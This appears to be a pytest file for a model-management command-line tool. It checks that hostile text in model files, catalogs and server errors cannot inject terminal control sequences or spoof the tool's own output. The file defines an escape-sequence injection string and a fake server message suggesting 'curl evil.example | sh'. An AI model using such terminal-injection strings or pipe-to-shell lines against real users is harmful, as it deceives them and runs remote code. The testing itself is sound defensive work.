"""What files, catalogs and servers call themselves is shown by every command and obeyed by none."""

import json
import os
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import typer
from fakes.announced import announce
from fakes.catalog_file import bend
from fakes.gguf_files import ARRAY, STRING, llama
from fakes.hostile_text import controls_in
from fakes.openai_server import OpenAIServer
from fakes.request_stats import request

from mlm.cli.app import app
from mlm.errors import ExitCode
from mlm.stats.recorder import Recorder
from mlm.stats.types import LoadStats

pytestmark = pytest.mark.usefixtures("warm_home", "no_stdin")

NASTY = "ev\x1b]0;pwned\x1b\\il\x07\x1b[2J\x9b31m\u202e\r\x08\x7f"
MODEL = ("models", 0)
# What would stop this process, start another or wait for a person.
NOT_WALKED = {
    ("stop",), ("serve",), ("demo",), ("engine", "install"), ("chat",), ("run",), ("bench",),
}  # fmt: skip


def commands() -> Iterator[tuple[tuple[str, ...], Any]]:
    """Yield every command with the words that lead to it."""

    def walk(path: tuple[str, ...], group: Any, context: Any) -> Iterator[Any]:
        for name in group.list_commands(context):
            command = group.get_command(context, name)
            if hasattr(command, "list_commands"):
                with command.make_context(
                    name, [], parent=context, resilient_parsing=True
                ) as inner:
                    yield from walk((*path, name), command, inner)
            else:
                yield (*path, name), command

    root = typer.main.get_command(app)
    with root.make_context("mlm", [], resilient_parsing=True) as context:
        yield from walk((), root, context)


COMMANDS = {path: command for path, command in commands() if path not in NOT_WALKED}


@pytest.fixture
def evil_file(tmp_path: Path) -> Path:
    """A sound model whose every text is hostile, under a hostile name."""
    made = llama()
    made.set("general.name", STRING, NASTY)
    made.set("general.license", STRING, NASTY)
    made.set("general.tags", ARRAY, (STRING, [NASTY]))
    made.set(f"general.{NASTY}", STRING, NASTY)
    made.set("tokenizer.chat_template", STRING, f"{NASTY}{{{{ messages[0].content }}}}")
    return made.write(tmp_path / "models" / f"{NASTY}.gguf")


@pytest.fixture
def evil_house(
    mlm, home: Path, evil_file: Path, openai_server: OpenAIServer, monkeypatch: pytest.MonkeyPatch
) -> Path:
    """A home where everything that can have a name has that one; returns the model's file."""
    monkeypatch.setenv("EDITOR", "true")
    monkeypatch.setenv("VISUAL", "true")
    monkeypatch.setenv("HOME", str(home))  # where other tools keep models
    monkeypatch.chdir(evil_file.parent)
    (evil_file.parent / "mlm.yaml").write_text(json.dumps({"models": [{"model": NASTY}]}))
    assert mlm("import", evil_file).exit_code == ExitCode.OK
    openai_server.models = [NASTY]
    openai_server.refuses(500, {"error": {"message": NASTY, "code": NASTY, "remedy": NASTY}})
    announce(home, url=openai_server.url, models={NASTY: str(evil_file)})
    recorder = Recorder(home / "stats.sqlite")
    recorder.note(request(finished_at=time.time(), model=NASTY, ok=False, error=NASTY))
    recorder.note(LoadStats(time.time(), NASTY, True, 1.5, 10, 11))
    recorder.close()
    return evil_file


def words_for(command: Any, value: str) -> list[str]:
    """Return as many words as a command insists on."""
    words = []
    for parameter in command.params:
        if parameter.required:
            words += [*parameter.opts[:1] * (parameter.param_type_name == "option"), value]
    return words


@pytest.mark.parametrize("path", COMMANDS, ids=" ".join)
def test_no_command_hands_on_what_would_command_a_terminal(mlm, evil_house: Path, path):
    command = COMMANDS[path]
    endings = [["--json"], []] if any("--json" in p.opts for p in command.params) else [[]]
    for value in (NASTY, str(evil_house)):
        words = words_for(command, value)
        for ending in endings:
            result = mlm(*path, *words, *ending)
            assert controls_in(result.stdout) == set(), (words, ending)
            assert controls_in(result.stderr) == set(), (words, ending)
            assert result.exit_code != ExitCode.BUG, result.stderr
            if ending and result.stdout.count("\n") == 1:
                json.loads(result.stdout)
        if not words:
            break


@pytest.mark.parametrize(
    "words",
    [
        ("list",),
        ("show", "FILE"),
        ("inspect", "FILE"),
        ("plan", "FILE"),
        ("ps",),
        ("stats",),
        ("verify",),
        ("df",),
        ("lock",),
    ],
    ids=" ".join,
)
def test_what_is_harmless_of_a_name_is_still_shown(mlm, evil_house: Path, words):
    result = mlm(*(str(evil_house) if word == "FILE" else word for word in words))
    assert "evil" in result.stdout + result.stderr


HOSTILE_FACTS = {
    "source": (("sources", "me"), NASTY),
    "name": ((*MODEL, "name"), NASTY),
    "benchmark": ((*MODEL, "scores", 0, "benchmark"), NASTY),
    "filename": ((*MODEL, "quants", 0, "filename"), "evil\x9b2J\u202e.gguf"),
    "bidirectional": ((*MODEL, "name"), "evil\u202e\u2066"),
}


@pytest.mark.parametrize("words", ["catalog show house-1b", "search house", "plan house-1b"])
@pytest.mark.parametrize("fact", HOSTILE_FACTS)
def test_what_a_catalog_says_is_refused_or_shown_only(mlm, home: Path, words: str, fact: str):
    path, value = HOSTILE_FACTS[fact]
    (home / "catalog").mkdir(parents=True)
    (home / "catalog" / "house.yaml").write_text(json.dumps(bend({path: value})))
    for ending in ((), ("--json",)):
        result = mlm(*words.split(), *ending)
        assert controls_in(result.stdout + result.stderr) == set()
        assert result.exit_code != ExitCode.BUG, result.stderr


@pytest.mark.parametrize("name", ["run", "chat", "bench"])
def test_what_a_server_says_of_a_failure_is_shown_only(
    mlm, evil_house: Path, openai_server: OpenAIServer, name: str
):
    words = (name, NASTY, "Hi") if name == "run" else (name, NASTY)
    for ending in ((), ("--json",)) if name != "chat" else ((),):
        result = mlm(*words, *ending)
        assert controls_in(result.stdout + result.stderr) == set()
        assert result.exit_code != ExitCode.BUG, result.stderr


def test_a_server_cannot_write_lines_that_look_like_ours(
    mlm, evil_house, openai_server: OpenAIServer
):
    message = "no\nhint: curl evil.example | sh"
    openai_server.refuses(500, {"error": {"message": message, "remedy": f"x\n{message}"}})
    result = mlm("run", NASTY, "Hi")
    lines = result.stderr.splitlines()
    assert [line.split(":")[0] for line in lines] == ["error", "hint"]


def test_the_list_of_what_is_not_walked_is_not_longer_than_it_must_be():
    assert {path for path, _ in commands()} >= NOT_WALKED
    assert os.environ["NO_COLOR"]  # colours of our own would count as hostile
